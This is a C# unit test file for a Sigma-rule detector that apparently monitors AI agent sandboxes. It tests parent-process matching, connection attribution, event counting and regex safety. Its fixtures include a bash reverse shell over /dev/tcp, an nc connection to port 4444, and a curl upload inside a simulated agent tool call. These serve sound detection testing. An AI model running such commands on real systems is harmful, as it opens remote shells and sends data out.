using System.Net;
using Aurelian.Detection;
using Aurelian.Events;

namespace Aurelian.UnitTests.Detection.Sigma;

public sealed class SigmaDetectorTests
{
    private static readonly string Child = SigmaScene.Rule("""
        selection:
            ParentImage|endswith: /python3
            ParentCommandLine|contains: train.py
            Image|endswith: /curl
        """);

    [Fact]
    public void A_parent_is_known_from_its_own_start() => Assert.Equal(
        ["r0"], new SigmaScene(Child).Exec(20, "/usr/bin/python3", "python3", "train.py")
            .Exec(20, 21, "/usr/bin/curl", ["curl"]).Found);

    [Fact]
    public void A_forked_process_is_what_its_parent_was()
    {
        SigmaScene scene = new(Child);

        scene.Exec(20, "/usr/bin/python3", "python3", "train.py").Add(new Fact.ProcessForked(20), 21)
            .Exec(21, 22, "/usr/bin/curl", ["curl"]);

        Assert.Equal(["r0"], scene.Found);
    }

    [Fact]
    public void A_process_that_ended_is_nobodys_parent() => Assert.Empty(
        new SigmaScene(Child).Exec(20, "/usr/bin/python3", "python3", "train.py").Add(new Fact.ProcessExited(0, 0), 20)
            .Exec(20, 21, "/usr/bin/curl", ["curl"]).Found);

    [Fact]
    public void A_connection_has_its_process_and_its_name()
    {
        SigmaScene scene = new(SigmaScene.Rule("""
            selection:
                Image|endswith: /nc
                DestinationHostname|endswith: .example
                DestinationPort: 4444
                Protocol: tcp
            """, category: "network_connection"));

        scene.Exec(20, "/usr/bin/nc", "nc").Connect("198.18.0.1", 4444, "pool.example", pid: 20);

        Finding finding = Assert.Single(scene.Findings);
        Assert.NotNull(finding.Flow);
        Assert.Equal("A test rule: /usr/bin/nc – pool.example", finding.Explanation);
    }

    [Fact]
    public void A_connection_is_of_the_program_that_tried_it_whatever_it_became_since()
    {
        SigmaScene scene = new(SigmaScene.Rule(
            "selection:\n    CommandLine|contains: /dev/tcp/", category: "network_connection"));

        scene.Exec(20, "/usr/bin/bash", "bash", "-c", "exec sh <>/dev/tcp/203.0.113.7/80")
            .Add(new Fact.ConnectAttempted(new Endpoint(IPAddress.Parse("203.0.113.7"), 80), Transport.Tcp), 20)
            .Exec(20, "/usr/bin/sh", "sh").Connect("203.0.113.8", 80, pid: 20);
        Assert.Empty(scene.Findings);
        scene.Connect("203.0.113.7", 80, pid: 20);

        Assert.Equal(["r0"], scene.Found);
    }

    /// <summary>In a run one connection is two facts, the attempt and the flow: a rule counts it once.</summary>
    [Fact]
    public void A_connection_is_one_event()
    {
        SigmaScene scene = new(
            SigmaScene.Rule("selection:\n    Initiated: 'true'", category: "network_connection", name: "any"),
            """
            title: Two
            name: two
            correlation: {type: event_count, rules: [any], timespan: 1m, condition: {gte: 2}}
            """);

        scene.Add(new Fact.ConnectAttempted(new Endpoint(IPAddress.Parse("203.0.113.7"), 80), Transport.Tcp))
            .Connect("203.0.113.7", 80);
        Assert.Empty(scene.Findings);
        scene.Connect("203.0.113.7", 80);
        Assert.Equal(["two"], scene.Found);
    }

    [Fact]
    public void Names_files_and_other_tools_attempts_are_asked_about()
    {
        SigmaScene scene = new(
            SigmaScene.Rule("selection:\n    query|endswith: .example\n    record_type: TXT", category: "dns"),
            SigmaScene.Rule("selection:\n    TargetFilename|startswith: /etc/", category: "file_event"),
            SigmaScene.Rule("selection:\n    dst_port: 22", category: "network_connection"));

        scene.Add(new Fact.DnsAsked("a.example", "TXT", "issued", null, true), log: true)
            .Add(new Fact.FileOpenedForWriting("/etc/x"), log: true)
            .Add(new Fact.ConnectAttempted(new Endpoint(IPAddress.Parse("203.0.113.7"), 22), Transport.Tcp), log: true);

        Assert.Equal(["r0", "r1", "r2"], scene.Found);
    }

    [Fact]
    public void Commands_in_a_trajectory_are_processes_too() => Assert.Equal(["r0"], new SigmaScene(
        SigmaScene.Rule("selection:\n    Image|endswith: /curl\n    CommandLine|contains: ' -T '"))
        .Add(new Fact.ToolCallStarted(1, "bash", "cd /x && curl -T a https://b.example; echo 'curl -T c'"), log: true)
        .Found);

    [Fact]
    public void A_call_is_told_of_once_and_a_log_every_ten_minutes()
    {
        SigmaScene scene = new(SigmaScene.Rule("selection:\n    Image|endswith: /curl"));
        Fact curl = new Fact.ProcessExecuted(1, "/usr/bin/curl", ["curl"], false, false);

        scene.Add(curl).After(3600).Add(curl).Add(curl, call: "e1.c2");
        Assert.Equal(2, scene.Findings.Count);
        scene.Add(curl, log: true).After(60).Add(curl, log: true).After(600).Add(curl, log: true);
        Assert.Equal(4, scene.Findings.Count);
    }

    [Fact]
    public void What_no_agent_did_is_nobodys_finding()
    {
        SigmaScene scene = new(SigmaScene.Rule("selection:\n    Initiated: 'true'", category: "network_connection"));
        List<Finding> findings = [];

        scene.Detector.Observe(
            new Event(1, default, 1, new Subject(new RunId("r"), null, new EpisodeId("e1"), null, new SandboxId("e1")),
                new Fact.PacketRefused(new Endpoint(IPAddress.Loopback, 1), new Endpoint(IPAddress.Loopback, 2),
                    Transport.Udp, "canary")), findings);

        Assert.Empty(findings);
    }

    /// <summary>The pattern and the text that hang a backtracking engine.</summary>
    [Fact]
    public void A_hostile_pattern_meets_a_hostile_command_line_in_linear_time() => Assert.False(SigmaScene.Matches(
        "CommandLine|re: '^(a+)+$'", "/x", new string('a', 60_000) + "!"));

    [Fact]
    public void A_command_line_without_end_is_cut()
    {
        SigmaScene scene = new(SigmaScene.Rule("selection:\n    CommandLine|endswith: end"));

        scene.Exec(10, "/x", [.. Enumerable.Repeat(new string('a', 10_000), 100), "end"]);

        Assert.Empty(scene.Findings);
    }
}
